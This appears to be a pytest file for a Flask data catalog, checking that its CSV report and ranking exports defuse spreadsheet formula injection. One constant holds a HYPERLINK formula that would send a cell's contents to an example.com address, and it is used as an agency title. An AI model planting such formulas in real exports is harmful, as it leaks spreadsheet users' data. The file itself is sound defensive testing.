"""Every CSV the catalog hands out defuses text a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

from flask.testing import FlaskClient

from catalog.context import Catalog
from catalog.csvtext import cell
from tests import factories
from tests.conftest import World

HOSTILE = '=HYPERLINK("http://example.com/?d="&A1,"klik")'


def test_cells_that_would_start_a_formula_are_defused() -> None:
    for text in ("=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert cell(text) == "'" + text
    assert cell("Dinas Kesehatan") == "Dinas Kesehatan"
    assert cell(-3) == -3 and cell(2.5) == 2.5  # numbers are numbers, not text


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_report_and_ranking_csv_defuse_an_agency_title(
    client: FlaskClient, ctx: Catalog, world: World
) -> None:
    with ctx.unit_of_work() as session:
        factories.make_org(session, "instansi-aneh", title=HOSTILE)
        factories.make_dataset(session, "instansi-aneh")
    for path in (
        "/api/v1/recommendations/report?format=csv",
        "/api/v1/quality/organizations?format=csv",
    ):
        answer = client.get(path, headers=world.auth("admin"))
        assert answer.status_code == 200, (path, answer.get_data(as_text=True))
        cells = [c for row in _rows(answer.get_data(as_text=True)) for c in row]
        assert "'" + HOSTILE in cells, (path, cells)
        assert HOSTILE not in cells
